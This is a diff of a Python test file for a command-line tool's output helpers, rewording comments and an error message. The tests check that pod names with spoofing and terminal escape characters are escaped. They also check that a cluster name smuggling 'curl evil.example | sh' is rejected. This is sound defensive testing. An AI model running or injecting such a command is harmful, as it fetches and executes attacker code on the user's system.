@@ -14,7 +14,7 @@ from proxy.cli.errors import CommandError
 
 
 class Terminal(io.StringIO):
-    """What a person types."""
+    """Answers typed by a person."""
 
     def isatty(self) -> bool:
         return True
@@ -42,7 +42,7 @@ def test_whoever_said_yes_and_a_program_are_not_asked(
 
 
 def test_what_is_said_is_made_safe_line_by_line(capsys: pytest.CaptureFixture[str]) -> None:
-    # The name of a pod, as `session kill` tells it.
+    # A pod's name, as `session kill` prints it.
     say("killed get pods/log work/\u202egnp.exe\x1b[2J\nnext")
     assert capsys.readouterr().err == "killed get pods/log work/\\u202egnp.exe\\x1b[2J\n  next\n"
 
@@ -61,7 +61,7 @@ def test_a_login_to_be_pasted_is_one_word_of_the_hubs(capsys: pytest.CaptureFixt
 def test_a_command_to_be_pasted_names_a_cluster_and_nothing_else(capsys: pytest.CaptureFixture[str]) -> None:
     say_apply_rbac({"apply_rbac": ["prod"]})
     assert "hawse admin cluster rbac prod | kubectl" in capsys.readouterr().err
-    with pytest.raises(CommandError, match="a name that is refused"):
+    with pytest.raises(CommandError, match="an invalid name"):
         say_apply_rbac({"apply_rbac": ["prod", "x; curl evil.example | sh"]})
     assert capsys.readouterr().err == ""
 
